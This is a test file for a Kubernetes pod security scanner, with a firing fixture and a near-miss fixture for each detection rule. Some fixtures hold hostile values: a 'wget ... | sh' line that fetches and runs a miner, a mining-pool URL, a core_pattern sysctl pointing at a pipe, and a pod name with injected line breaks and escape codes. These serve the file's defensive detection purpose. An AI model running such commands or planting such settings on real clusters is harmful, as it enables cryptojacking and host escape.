import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { KubeObject } from '../../../src/core/model.js';
import { POD_RULES, TECHNIQUES } from '../../../src/core/detections/index.js';
import { byRule, container, findings, pod, restrictedPodWith, restrictedSpec } from './helpers.js';

test('a pod meeting the Pod Security Standards restricted profile yields no findings', () => {
  assert.deepEqual(findings([pod(restrictedSpec())]), []);
});

interface Case {
  rule: string;
  fires: KubeObject;
  nearMiss: KubeObject;
  /** Expected evidence on the firing fixture. */
  fieldPath?: string;
  fieldValue?: string;
  container?: string;
}

const ephemeral = { name: 'debugger-abcde', image: 'busybox:1.36', targetContainerName: 'app', securityContext: { allowPrivilegeEscalation: false } };

const CASES: Case[] = [
  { rule: 'POD-PRIVILEGED', fires: restrictedPodWith({ privileged: true }), nearMiss: restrictedPodWith({ privileged: false }), fieldPath: 'spec.containers[0].securityContext.privileged', fieldValue: 'true', container: 'app' },
  { rule: 'POD-HOST-PID', fires: restrictedPodWith({}, { hostPID: true }), nearMiss: restrictedPodWith({}, { hostPID: false }), fieldPath: 'spec.hostPID' },
  { rule: 'POD-HOST-IPC', fires: restrictedPodWith({}, { hostIPC: true }), nearMiss: restrictedPodWith({}, { hostIPC: false }), fieldPath: 'spec.hostIPC' },
  { rule: 'POD-HOST-NETWORK', fires: restrictedPodWith({}, { hostNetwork: true }), nearMiss: restrictedPodWith({}, { hostNetwork: false }), fieldPath: 'spec.hostNetwork' },
  {
    rule: 'POD-HOST-PORT',
    fires: pod({ ...restrictedSpec(), containers: [{ ...(restrictedSpec().containers as object[])[0], ports: [{ containerPort: 8080, hostPort: 8080 }] }] }),
    nearMiss: pod(restrictedSpec()),
    fieldPath: 'spec.containers[0].ports[0].hostPort',
    fieldValue: '8080',
  },
  {
    rule: 'POD-HOSTPATH',
    fires: restrictedPodWith({}, { volumes: [{ name: 'logs', hostPath: { path: '/var/log/app' } }] }),
    nearMiss: restrictedPodWith({}, { volumes: [{ name: 'logs', emptyDir: {} }] }),
    fieldPath: 'spec.volumes[0].hostPath.path',
    fieldValue: '/var/log/app',
  },
  {
    rule: 'POD-HOSTPATH-WRITABLE',
    fires: restrictedPodWith({}, { volumes: [{ name: 'cache', hostPath: { path: '/var/cache/app' } }] }),
    // Same host path, mounted read-only.
    nearMiss: pod({
      ...restrictedSpec(),
      volumes: [{ name: 'cache', hostPath: { path: '/var/cache/app' } }],
      containers: [container({ volumeMounts: [{ name: 'cache', mountPath: '/cache', readOnly: true }], securityContext: { allowPrivilegeEscalation: false } })],
    }),
    fieldPath: 'spec.containers[0].volumeMounts[0]',
    fieldValue: '/var/cache/app -> /cache',
  },
  {
    rule: 'POD-HOSTPATH-SENSITIVE',
    fires: restrictedPodWith({}, { volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }] }),
    nearMiss: restrictedPodWith({}, { volumes: [{ name: 'sock', hostPath: { path: '/etc/ssl/certs' } }] }),
    fieldValue: '/run/containerd/containerd.sock',
  },
  {
    rule: 'POD-MOUNT-SERVICE-PRINCIPAL',
    fires: restrictedPodWith({}, { volumes: [{ name: 'k', hostPath: { path: '/etc/kubernetes/' } }] }),
    nearMiss: restrictedPodWith({}, { volumes: [{ name: 'k', hostPath: { path: '/var/lib/kubelet' } }] }),
    fieldValue: '/etc/kubernetes/',
  },
  {
    rule: 'POD-DANGEROUS-CAPABILITY',
    fires: restrictedPodWith({ capabilities: { drop: ['ALL'], add: ['CAP_SYS_ADMIN'] } }),
    nearMiss: restrictedPodWith({ capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE', 'CHOWN'] } }),
    fieldPath: 'spec.containers[0].securityContext.capabilities.add[0]',
    fieldValue: 'CAP_SYS_ADMIN',
  },
  {
    rule: 'POD-ALLOW-PRIVILEGE-ESCALATION',
    fires: restrictedPodWith({ allowPrivilegeEscalation: true }),
    nearMiss: restrictedPodWith({ allowPrivilegeEscalation: false }),
    fieldValue: 'true',
  },
  {
    rule: 'POD-RUN-AS-ROOT',
    fires: restrictedPodWith({ runAsUser: 0 }),
    // The container's own non-zero uid overrides a pod without runAsNonRoot.
    nearMiss: restrictedPodWith({ runAsUser: 1000 }, { securityContext: { seccompProfile: { type: 'RuntimeDefault' }, runAsUser: 1000, runAsNonRoot: true } }),
    fieldPath: 'spec.containers[0].securityContext.runAsUser',
    fieldValue: '0',
  },
  {
    rule: 'POD-SECCOMP-UNCONFINED',
    fires: restrictedPodWith({ seccompProfile: { type: 'Unconfined' } }),
    nearMiss: restrictedPodWith({ seccompProfile: { type: 'Localhost', localhostProfile: 'profiles/app.json' } }),
    fieldPath: 'spec.containers[0].securityContext.seccompProfile.type',
  },
  {
    rule: 'POD-APPARMOR-UNCONFINED',
    fires: pod(restrictedSpec(), { annotations: { 'container.apparmor.security.beta.kubernetes.io/app': 'unconfined' } }),
    nearMiss: pod(restrictedSpec(), { annotations: { 'container.apparmor.security.beta.kubernetes.io/app': 'runtime/default' } }),
    fieldPath: 'metadata.annotations["container.apparmor.security.beta.kubernetes.io/app"]',
  },
  { rule: 'POD-PROC-MOUNT-UNMASKED', fires: restrictedPodWith({ procMount: 'Unmasked' }), nearMiss: restrictedPodWith({ procMount: 'Default' }) },
  {
    rule: 'POD-UNSAFE-SYSCTL',
    fires: restrictedPodWith({}, { securityContext: { ...(restrictedSpec().securityContext as object), sysctls: [{ name: 'kernel.core_pattern', value: '|/tmp/x' }] } }),
    nearMiss: restrictedPodWith({}, { securityContext: { ...(restrictedSpec().securityContext as object), sysctls: [{ name: 'net.ipv4.ip_local_port_range', value: '1024 65000' }] } }),
    fieldValue: 'kernel.core_pattern=|/tmp/x',
  },
  {
    rule: 'POD-EPHEMERAL-CONTAINER',
    fires: restrictedPodWith({}, { ephemeralContainers: [ephemeral] }),
    nearMiss: restrictedPodWith({}, { ephemeralContainers: [] }),
    fieldPath: 'spec.ephemeralContainers[0].image',
    container: 'debugger-abcde',
  },
  { rule: 'POD-NO-OWNER', fires: pod(restrictedSpec(), { ownerReferences: undefined }), nearMiss: pod(restrictedSpec()) },
  {
    rule: 'POD-KUBE-SYSTEM-FOREIGN-IMAGE',
    fires: pod({ ...restrictedSpec(), initContainers: [] }, { namespace: 'kube-system' }),
    nearMiss: pod({ ...restrictedSpec(), containers: [container({ image: 'mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.29.2', securityContext: { allowPrivilegeEscalation: false } })], initContainers: [] }, { namespace: 'kube-system' }),
    fieldValue: 'myregistry.azurecr.io/app:1.0',
  },
  {
    rule: 'POD-SSH-PORT',
    fires: pod({ ...restrictedSpec(), containers: [container({ ports: [{ containerPort: 2222 }], securityContext: { allowPrivilegeEscalation: false } })] }),
    nearMiss: pod({ ...restrictedSpec(), containers: [container({ ports: [{ containerPort: 22222 }], securityContext: { allowPrivilegeEscalation: false } })] }),
    fieldValue: '2222',
  },
  {
    rule: 'POD-CRYPTO-MINER',
    fires: pod({ ...restrictedSpec(), containers: [container({ image: 'busybox:1.36', args: ['-o', 'stratum+tcp://pool.example.org:3333'], securityContext: { allowPrivilegeEscalation: false } })] }),
    // A Redis on port 6379 talking tcp:// is not a miner.
    nearMiss: pod({ ...restrictedSpec(), containers: [container({ image: 'redis:7', args: ['--replicaof', 'tcp://redis-0:6379'], securityContext: { allowPrivilegeEscalation: false } })] }),
    fieldPath: 'spec.containers[0].args[1]',
  },
  {
    rule: 'POD-SECRET-ENV-LITERAL',
    fires: pod({ ...restrictedSpec(), containers: [container({ env: [{ name: 'STRIPE_API_KEY', value: 'sk_live_0123456789' }], securityContext: { allowPrivilegeEscalation: false } })] }),
    nearMiss: pod({ ...restrictedSpec(), containers: [container({ env: [{ name: 'PASSWORD_FILE', value: '/run/secrets/pw' }, { name: 'API_KEY', valueFrom: { secretKeyRef: { name: 'k', key: 'k' } } }], securityContext: { allowPrivilegeEscalation: false } })] }),
    fieldPath: 'spec.containers[0].env[0].value',
    fieldValue: 'STRIPE_API_KEY=<masked: 18 characters>',
  },
];

for (const c of CASES) {
  test(`${c.rule} fires on its fixture and not on the near miss`, () => {
    const hits = byRule(findings([c.fires]), c.rule);
    assert.equal(hits.length, 1, `expected one ${c.rule} finding, got ${JSON.stringify(hits, null, 1)}`);
    const f = hits[0]!;
    if (c.fieldPath) assert.equal(f.fieldPath, c.fieldPath);
    if (c.fieldValue) assert.equal(f.fieldValue, c.fieldValue);
    if (c.container) assert.equal(f.resource.container, c.container);
    assert.match(f.techniqueId, /^MS-TA9\d{3}$/);
    assert.ok(f.techniqueName && f.tactics.length > 0, 'technique name and tactics are filled from the catalogue');
    assert.ok(f.explanation.length > 20 && !f.explanation.includes('\n'), 'one-line explanation');
    assert.deepEqual(byRule(findings([c.nearMiss]), c.rule), []);
  });
}

test('every pod rule except the token, cron job and config map rules (own tests) has a fixture', () => {
  const covered = new Set(CASES.map((c) => c.rule));
  const missing = Object.values(POD_RULES).map((r) => r.id).filter((id) => !covered.has(id) && id !== 'POD-RISKY-SA-TOKEN' && id !== 'POD-CRONJOB-PERSISTENCE' && id !== 'CONFIGMAP-SECRET');
  assert.deepEqual(missing, []);
});

test('every rule technique is in the shipped catalogue with its tactics', () => {
  const ids = new Set(TECHNIQUES.map((t) => t.id));
  for (const r of Object.values(POD_RULES)) assert.ok(ids.has(r.techniqueId), r.id);
});

test('the secret value itself never reaches the finding', () => {
  const p = pod({ containers: [container({ env: [{ name: 'DB_PASSWORD', value: 'hunter2-very-secret' }] })] });
  const text = JSON.stringify(findings([p]));
  assert.ok(!text.includes('hunter2-very-secret'));
});

test('init and ephemeral containers are checked like regular ones', () => {
  const p = pod({ ...restrictedSpec(), initContainers: [container({ name: 'setup', securityContext: { privileged: true } })], ephemeralContainers: [{ ...ephemeral, securityContext: { privileged: true } }] });
  const hits = byRule(findings([p]), 'POD-PRIVILEGED');
  assert.deepEqual(hits.map((f) => f.fieldPath).sort(), ['spec.ephemeralContainers[0].securityContext.privileged', 'spec.initContainers[0].securityContext.privileged']);
});

test('crypto-miner images and known pool domains are recognised', () => {
  const byImage = pod({ containers: [container({ image: 'docker.io/xmrig/xmrig:6.21.0' })] });
  assert.equal(byRule(findings([byImage]), 'POD-CRYPTO-MINER')[0]?.fieldPath, 'spec.containers[0].image');
  const byPool = pod({ containers: [container({ image: 'alpine', command: ['/bin/sh', '-c', 'wget -qO- http://x/m | sh -s -- -o pool.supportxmr.com:443'] })] });
  assert.equal(byRule(findings([byPool]), 'POD-CRYPTO-MINER').length, 1);
});

test('writable mount of a sensitive path is high, of an ordinary path medium', () => {
  const sensitive = byRule(findings([pod({ volumes: [{ name: 'h', hostPath: { path: '/var/lib/kubelet/pods' } }], containers: [container({ volumeMounts: [{ name: 'h', mountPath: '/k' }] })] })]), 'POD-HOSTPATH-WRITABLE');
  assert.equal(sensitive[0]?.severity, 'high');
  const ordinary = byRule(findings([pod({ volumes: [{ name: 'h', hostPath: { path: '/var/log' } }], containers: [container({ volumeMounts: [{ name: 'h', mountPath: '/l' }] })] })]), 'POD-HOSTPATH-WRITABLE');
  assert.equal(ordinary[0]?.severity, 'medium');
});

test('hostile shapes (wrong types, missing fields) do not throw', () => {
  const weird = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x' }, spec: { containers: 'nope', volumes: [null, 5, { hostPath: 'x' }], securityContext: [] } } as unknown as KubeObject;
  assert.doesNotThrow(() => findings([weird, { kind: 'Deployment', metadata: { name: 'd' }, spec: { template: null } } as KubeObject]));
});

test('a Windows HostProcess container counts as privileged', () => {
  const p = pod({ securityContext: { windowsOptions: { hostProcess: true, runAsUserName: 'NT AUTHORITY\\SYSTEM' } }, hostNetwork: true, containers: [container()] });
  const hits = byRule(findings([p]), 'POD-PRIVILEGED');
  assert.equal(hits.length, 1);
  assert.equal(hits[0]!.fieldPath, 'spec.securityContext.windowsOptions.hostProcess');
  const optedOut = pod({ securityContext: { windowsOptions: { hostProcess: true } }, containers: [container({ securityContext: { windowsOptions: { hostProcess: false } } })] });
  assert.deepEqual(byRule(findings([optedOut]), 'POD-PRIVILEGED'), []);
});

test('an attacker-chosen name with line breaks cannot break the one-line explanation', () => {
  const p = pod({ containers: [container({ securityContext: { privileged: true } })] }, { name: 'evil\nFAKE high POD-OK\u001b[31m' });
  for (const f of findings([p])) assert.ok(!f.explanation.includes('\n') && !f.explanation.includes('\u001b'), f.explanation);
});
